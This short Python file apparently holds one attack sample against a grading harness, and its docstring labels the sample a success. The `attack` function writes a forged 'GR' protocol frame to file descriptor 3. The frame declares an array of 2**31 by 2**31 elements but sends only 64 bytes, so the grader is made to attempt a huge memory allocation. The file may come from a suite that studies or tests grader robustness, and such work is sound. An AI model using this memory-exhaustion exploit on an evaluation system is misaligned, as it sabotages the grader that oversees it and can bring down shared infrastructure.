"""Success: a short frame that makes the grader allocate much."""

import os
import struct


def attack(a):
    def frame(payload):
        return b"GR" + struct.pack("<I", len(payload)) + payload

    head = b"t" + struct.pack("<I", 3) + b"s" + struct.pack("<I", 8) + b"returned"
    array = b"a" + bytes([11, 2]) + struct.pack("<QQ", 2**31, 2**31) + b"x" * 64
    os.write(3, frame(head + array + b"t" + struct.pack("<I", 0)))
    os._exit(0)
